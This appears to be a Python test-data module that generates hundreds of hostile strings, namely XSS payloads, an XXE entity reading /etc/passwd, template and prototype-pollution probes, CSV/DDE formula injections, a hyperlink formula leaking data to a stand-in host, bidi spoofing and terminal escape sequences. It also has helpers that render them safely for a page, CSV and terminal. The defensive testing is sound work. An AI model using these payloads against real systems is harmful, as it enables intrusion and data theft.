# SPDX-License-Identifier: Apache-2.0
"""More than 500 texts that want to be more than text, and how the page, a CSV file and a terminal show them."""
import unicodedata

JS = "window.ran=1;alert(1)"

EVENTS = """load error click focus blur mouseover mouseenter wheel pointerover pointerrawupdate animationstart
animationend transitionend toggle beforetoggle begin end repeat start finish hashchange message pageshow popstate
resize scroll scrollend unhandledrejection beforeprint afterprint beforeunload copy cut paste drag drop input
invalid search select submit canplay play loadstart loadedmetadata auxclick contextmenu fullscreenchange
securitypolicyviolation beforematch cancel close cuechange durationchange""".split()
ELEMENTS = """a audio base body button details dialog div embed form frameset iframe img input isindex keygen
link marquee math meta noscript object option plaintext portal select slot style svg table template textarea
title video xmp xss""".split()
OURS = """td tr table tbody code span div article section main body html ul li details summary title
textarea""".split()


def markup():
    yield from (f"<script>{JS}</script>", f"<SCRIPT SRC=http://x.example/x.js></SCRIPT>",
                f"<script\n>{JS}</script\n>", f"<scr<script>ipt>{JS}</scr</script>ipt>",
                f"<script/x>{JS}</script/x>", f"</script><script>{JS}</script>", f"<script>{JS}//",
                f"<<script>{JS}//<</script>", f"<script type=module>{JS}</script>",
                f"\"><script>{JS}</script>", f"'><script>{JS}</script>", f"`><script>{JS}</script>",
                f"</style><script>{JS}</script>", f"</title><script>{JS}</script>",
                f"</textarea><script>{JS}</script>", f"--><script>{JS}</script>",
                f"--!><script>{JS}</script>", f"]]><script>{JS}</script>", f"?><script>{JS}</script>",
                f"<!--<script>{JS}</script>-->", f"<!--><script>{JS}</script>", "<!-->", "<!--", "-->",
                f"<![CDATA[<script>{JS}</script>]]>", "<![CDATA[", "]]>", f"<?xml version=\"1.0\"?><x>",
                "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
                f"<svg onload={JS}>", f"<svg/onload={JS}>", f"<svg><script>{JS}</script></svg>",
                f"<svg><animate onbegin={JS} attributeName=x dur=1s>",
                f"<svg><a xlink:href=\"javascript:{JS}\"><text y=1em>x</text></a></svg>",
                f"<svg><foreignObject><iframe srcdoc=\"<script>{JS}</script>\"></foreignObject></svg>",
                f"<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'>\"/></svg>",
                f"<math><mtext></mtext><style><img src onerror={JS}></style></math>",
                f"<math href=\"javascript:{JS}\">x</math>", f"<svg><style><img src=x onerror={JS}></style>",
                "<meta http-equiv=refresh content=\"0;url=http://x.example/\">", "<base href=//x.example/>",
                "<link rel=stylesheet href=//x.example/x.css>", "<link rel=import href=//x.example/>",
                f"<iframe srcdoc=\"<script>parent.ran=1</script>\">", "<iframe src=//x.example/>",
                f"<object data=\"javascript:{JS}\">", f"<embed src=\"javascript:{JS}\">",
                f"<form action=\"javascript:{JS}\"><button>x", f"<button formaction=\"javascript:{JS}\">x",
                "<img src=//x.example/x.png>", f"<img src=x onerror={JS}>", f"<img src=`x`onerror={JS}>",
                f"<img/src/onerror={JS}>", f"<input autofocus onfocus={JS}>", "<a id=location>", "<form id=document>",
                "<img name=body>", f"<template><script>{JS}</script></template>",
                f"<noscript><p title=\"</noscript><img src=x onerror={JS}>\">",
                f"<style>*{{background:url(//x.example/)}}</style>", "<style>@import '//x.example/x.css';</style>",
                f"<div style=\"width:expression({JS})\">", "<p style=\"position:fixed;inset:0;background:red\">",
                f"<x contenteditable onblur={JS}>", "<plaintext>", "<xmp>", "<noembed>", "<frameset>")
    for e in EVENTS:
        yield f"<img src=x on{e}={JS}>"
    for e in ELEMENTS:
        yield f"<{e} autofocus tabindex=1 onfocus={JS} onload={JS} onerror={JS} src=x href=javascript:{JS}>"
    for e in OURS:
        yield f"</{e}><b>{e}</b>"


def attributes():
    for q in ("\"", "'", "`", "", "\\\"", "\\'", "&quot;", "\n", "\t"):
        yield f"{q} onmouseover={q}{JS}{q} x={q}"
        yield f"x{q} autofocus onfocus={JS} tabindex=1 {q}"
        yield f"{q}>x</a><u>"
    for scheme in ("javascript:", "JaVaScRiPt:;", "java\tscript:", "java\nscript:", " javascript:", "\x01javascript:",
                   "javascript&colon;", "javascript&#58;", "java&#x09;script:", "vbscript:", "data:text/html,",
                   "data:text/html;base64,PHNjcmlwdD5yYW49MTwvc2NyaXB0Pg==", "file:///etc/passwd#", "http://x.example/",
                   "//x.example/", "\\\\x.example\\share\\", "blob:null/", "mailto:x@x.example?", "ms-msdt:/id "):
        yield scheme + JS


def entities():
    yield from (f"&lt;script&gt;{JS}&lt;/script&gt;", f"&#60;script&#62;{JS}", f"&#x3c;script>{JS}",
                "&amp;lt;b&amp;gt;", "&lt", "&#0;", "&#x110000;", "&nbsp;", "&NotEqualTilde;", "&#x202e;", "&#10;", "&",
                "&&&", "&quot;&apos;&#39;", "%3Cscript%3E", "\\u003cscript\\u003e", "\\x3cscript\\x3e", "+ADw-script+AD4-",
                "<span class=c>U+0000</span>", "U+202E", "\\xFF", "\\u{202E}", "\\0", "\\\\", "\\")


def scripts():
    yield from (f"${{{JS}}}", f"`;{JS};`", f"{{{{{JS}}}}}", "{{constructor.constructor('ran=1')()}}", "#{7*7}", "${7*7}",
                "<%= 7*7 %>", "{%raw%}", f"\"}};{JS};//", f"'}};{JS};//", f"\"]}};{JS};//", f"\\\";{JS};//", f"\\';{JS};//",
                f"\u2028{JS}\u2028", f"\u2029{JS}\u2029", f"//\u2028{JS}", "a\u2028b\u2029c", f"*/{JS}/*", f"<!--{JS}",
                f"\n-->{JS}", "\\", "\\u0022", f"\");{JS};(\"", "__proto__", "constructor", "toString", "hasOwnProperty",
                "null", "true", "NaN", "-0", "1e999", "[object Object]", "undefined", "%s%n%x%d", "%00", "%0a%0d", "$&$`$'$1",
                "{\"__proto__\":{\"ran\":1}}", "]}", "[[", "{\"a\":\"", "\"", "'", "''", "\"\"", "\"\"\"\"", "</script >", "</SCRIPT",
                "<!--<script", "sourceURL=x\n//# sourceMappingURL=http://x.example/x.map")


def invisible():
    yield from (f"c{chr(i)}d" for i in (*range(0x20), *range(0x7f, 0xa0)))
    for i in (0xad, 0x34f, 0x61c, 0x115f, 0x17b4, 0x180e, 0x200b, 0x200c, 0x200d, 0x200e, 0x200f, 0x2028, 0x2029,
              0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2060, 0x2063, 0x2066, 0x2067, 0x2068, 0x2069, 0x206f, 0x3164, 0xfe0f,
              0xfeff, 0xffa0, 0xfff9, 0xfffb, 0xfffe, 0xffff, 0x1d173, 0xe0001, 0xe0041, 0xe007f, 0xe0100):
        yield f"a{chr(i)}b"
    yield from ("invoice\u202efdp.exe", "\u202etxt.\u202d<b>", "\u2067\u2066x\u2069\u2069", "\u202e" * 30, "\ufeff=1+1")
    yield from ("\ud800", "\udc00", "a\udc00\ud800b", "\ud800<b>", "<\udfff>", "\udbff\udbff", "\ud83d", "\ude00x", "\U0001f600",
                "\U0010ffff", "e\u0301" * 20, "Z\u0335\u0336\u0337", "\uff1cscript\uff1e", "\u2039b\u203a", "\u212a", "\u0130\u0131", "\ufdfa",
                "\u4e2d\u6587", "\u05e9\u05dc\u05d5\u05dd", "\u0645\u0631\u062d\u0628\u0627", "\u00a0\u2003\u3000")


def formulas():
    for head in ("=", "+", "-", "@", "\t", "\r", "\n", " ", "\t=", "\r=", "\n=", " =", "\uff1d", ";=", ",=", "|=", "\"=",
                 "'=", "''=", "\"\r\n=", "\x00=", "\ufeff=", "\u200b=", "%="):
        yield head + "1+1"
        yield head + "cmd|' /C calc'!A0"
    yield from ("=HYPERLINK(\"http://x.example/?\"&A1,\"x\")", "=WEBSERVICE(\"http://x.example/\")",
                "@SUM(1+1)*cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")", "-2+3", "+49", "=\"\"", "=\t1", "a,b\"c\r\nd;e\tf")


def terminals():
    for c in ("\x1b[2J", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;http://x.example/\x1b\\x\x1b]8;;\x1b\\",
              "\x1b]52;c;cm0=\x07", "\x1bP+q544e\x1b\\", "\x1b[6n", "\x1b[?1049h", "\x1bc", "\x9b2J", "\x9d0;x\x9c", "\x90x\x9c",
              "\x1b[1A\x1b[2K", "\x1b#8", "\x1b(0", "\x1b[8m", "\x0e", "\x0f", "ok\x08\x08no", "\x07\x07", "\x1b", "\x1b[", "\x1b]"):
        yield "t" + c
    yield from ("x\r\n2026-03-02T09:00:00Z no findings", "x\nreport: safe", "\rno findings\x1b[K", "x\n\n\n\n", "x\x0b\x0cy",
                "x\x85y", "\r\n\r\n<b>HTTP</b>", "\n#1,2,3\n", "x\u2028no findings")


def texts():
    """All of them, each once, in one order."""
    found = {}
    for make in (markup, attributes, entities, scripts, invisible, formulas, terminals):
        found.update(dict.fromkeys(make()))
    return list(found)


def computer(text):
    """What a record's System keeps of it: a name ends at its first NUL."""
    return text.split("\0")[0]


def units(text):
    """UTF-16, as a scenario has it."""
    raw = text.encode("utf-16-be", "surrogatepass")
    return " ".join(raw[i:i + 2].hex() for i in range(0, len(raw), 2))


def hidden(c):
    return unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp") or \
        c in "\u034f\u115f\u17b4\u3164\ufe0f\uffa0\ufffe\uffff\U000e0100"


def on_page(text):
    return "".join(f"U+{ord(c):04X}" if hidden(c) else c for c in text)


def in_csv(text, guard=True):
    shown = "".join("\\0" if c == "\0" else f"\\u{ord(c):04X}" if unicodedata.category(c) == "Cs" else c for c in text)
    return "'" + shown if guard and text[:1] and text[0] in "=+-@\t\r'" else shown


def on_terminal(text):
    """Whether none of it does anything there but a line feed of ours."""
    return not any(hidden(c) and c != "\n" for c in text)
